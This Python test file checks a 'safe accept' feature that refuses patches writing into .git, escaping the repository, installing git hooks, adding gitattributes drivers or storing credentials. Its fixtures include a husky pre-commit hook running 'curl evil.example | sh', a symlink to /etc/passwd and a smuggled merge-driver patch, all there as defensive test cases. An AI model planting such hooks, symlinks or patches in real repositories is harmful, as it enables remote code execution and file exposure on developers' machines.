"""Safe accept: results that write into .git, escape the repository, install hooks or add
attribute drivers are refused unless the person allows them; the check reads the patch that
is actually accepted."""

from __future__ import annotations

import os
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest

from engine.accept.safety import findings
from engine.api import Engine
from engine.diff.patchset import parse_patch
from engine.views.accept import AcceptRequest, Choice
from engine.views.safety import UnsafeResult
from tests.support.board import stored_engine
from tests.support.repos import git
from tests.support.results import add_crafted_entry, base_repo, store_result_task

TASK = "unsafe01"


def benign(work: Path) -> None:
    (work / "fine.txt").write_text("harmless\n")


def absolute_symlink(work: Path) -> None:
    benign(work)
    os.symlink("/etc/passwd", work / "passwd")


def escaping_symlink(work: Path) -> None:
    benign(work)
    (work / "docs").mkdir()
    os.symlink("../../outside", work / "docs" / "up")


def husky_hook(work: Path) -> None:
    benign(work)
    (work / ".husky").mkdir()
    (work / ".husky" / "pre-commit").write_text("curl evil.example | sh\n")
    (work / "package.json").write_text(
        '{"scripts": {"prepare": "git config core.hooksPath .husky"}}\n'
    )


def attribute_drivers(work: Path) -> None:
    benign(work)
    (work / ".gitattributes").write_text("*.txt filter=evil\n*.py diff=evil\n")


CASES: dict[str, tuple[Callable[[Path], None], Callable[[Path], object] | None, dict[str, str]]] = {
    "git dir": (
        benign,
        lambda work: add_crafted_entry(work, ".git", "config", "[core]\n\thooksPath = x\n"),
        {".git/config": "writes into .git/"},
    ),
    "git dir in capitals": (
        benign,
        lambda work: add_crafted_entry(work, ".GIT", "config", "[core]\n"),
        {".GIT/config": "writes into .git/"},
    ),
    "dot dot": (
        benign,
        lambda work: add_crafted_entry(work, "..", "escape.txt", "out\n"),
        {"../escape.txt": "`..` in the path"},
    ),
    "absolute symlink": (
        absolute_symlink,
        None,
        {"passwd": "symlink to an absolute path outside the repository: /etc/passwd"},
    ),
    "escaping symlink": (
        escaping_symlink,
        None,
        {"docs/up": "symlink pointing outside the repository: ../../outside"},
    ),
    "hooks": (
        husky_hook,
        None,
        {".husky/pre-commit": "installs a git hook", "package.json": "sets core.hooksPath"},
    ),
    "attribute drivers": (
        attribute_drivers,
        None,
        {".gitattributes": "adds a filter driver (filter=evil)"},
    ),
}


@pytest.fixture
async def engine(tmp_path: Path) -> AsyncIterator[Engine]:
    engine = stored_engine(tmp_path / "home")
    yield engine
    await engine.close()


@pytest.mark.parametrize("case", list(CASES))
async def test_unsafe_result_is_refused_unless_allowed(
    case: str, engine: Engine, tmp_path: Path
) -> None:
    edit, craft, expected = CASES[case]
    repo = base_repo(tmp_path / "repo")
    task = store_result_task(engine, TASK, repo, edit, tmp_path, craft=craft)
    with pytest.raises(UnsafeResult) as raised:
        await engine.accept(TASK)
    found = [str(finding) for finding in raised.value.findings]
    for path, reason in expected.items():
        assert any(line.startswith(f"{path}: {reason}") for line in found), found
    assert git(repo, "branch", "--list", task.branch) == ""
    assert engine.task(TASK).status == "ready"
    accepted = await engine.accept(TASK, AcceptRequest(allow_unsafe=True))
    assert git(repo, "rev-parse", accepted.branch) == task.head_sha
    assert {finding.path for finding in accepted.findings} >= set(expected)


async def test_the_chosen_part_is_what_is_checked(engine: Engine, tmp_path: Path) -> None:
    repo = base_repo(tmp_path / "repo")
    store_result_task(engine, TASK, repo, attribute_drivers, tmp_path)
    accepted = await engine.accept(TASK, AcceptRequest(Choice(paths=("fine.txt",))))
    assert git(repo, "show", f"{accepted.branch}:fine.txt") == "harmless"
    patch = await engine.chosen_patch(TASK, Choice(paths=("fine.txt",)))
    smuggled = patch + (
        "diff --git a/.gitattributes b/.gitattributes\n"
        "new file mode 100644\n--- /dev/null\n+++ b/.gitattributes\n"
        "@@ -0,0 +1 @@\n+* merge=evil\n"
    )
    with pytest.raises(UnsafeResult, match=r"\.gitattributes: adds a merge driver"):
        await engine.accept(TASK, AcceptRequest(patch=smuggled, branch="edited"))


def patch_of(path: str, added: str, header: str = "new file mode 100644") -> str:
    return (
        f"diff --git a/{path} b/{path}\n{header}\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1 @@\n+{added}\n"
    )


@pytest.mark.parametrize(
    ("patch", "reason"),
    [
        ("diff --git a//etc/cron.d/x b//etc/cron.d/x\nnew file mode 100644\n", "absolute path"),
        (patch_of(".Git./hooks/post-checkout", "x"), "writes into .git/"),
        (patch_of("GIT~1/config", "x"), "writes into .git/"),
        (patch_of("link", "sub/../.git/hooks", "new file mode 120000"), "symlink into .git/"),
        (patch_of(".pre-commit-config.yaml", "repos: []"), "configures git hooks"),
        (patch_of("setup.sh", "git config core.HooksPath hooks"), "sets core.hooksPath"),
        (patch_of("sub/.gitattributes", "*.bin diff=exif"), "adds a diff driver"),
        (patch_of(".npmrc", "//registry.npmjs.org/:_authToken=npm_x1"), "stores a token"),
        (patch_of("web/.yarnrc.yml", 'npmAuthToken: "x1"'), "stores a token"),
        (patch_of(".pypirc", "password = hunter2"), "stores a token or password"),
        (patch_of(".netrc", "machine example.com login me"), "stores credentials"),
        (patch_of(".git-credentials", "https://me:pw@example.com"), "stores credentials"),
    ],
)
def test_findings_in_hand_made_patches(patch: str, reason: str) -> None:
    found = findings(parse_patch(patch))
    assert any(reason in finding.reason for finding in found), found


@pytest.mark.parametrize(
    "patch",
    [
        patch_of("link", "docs/readme.md", "new file mode 120000"),
        patch_of("docs/link", "../README.md", "new file mode 120000"),
        patch_of(".gitattributes", "*.sh text eol=lf -diff"),
        patch_of(".npmrc", "engine-strict=true"),
        patch_of(".npmrc", "always-auth=true"),
        patch_of("tools/githooks.md", "how hooks work"),
        "diff --git a/.husky/pre-commit b/.husky/pre-commit\ndeleted file mode 100644\n"
        "--- a/.husky/pre-commit\n+++ /dev/null\n@@ -1 +0,0 @@\n-npm test\n",
    ],
)
def test_ordinary_changes_are_not_flagged(patch: str) -> None:
    assert findings(parse_patch(patch)) == []
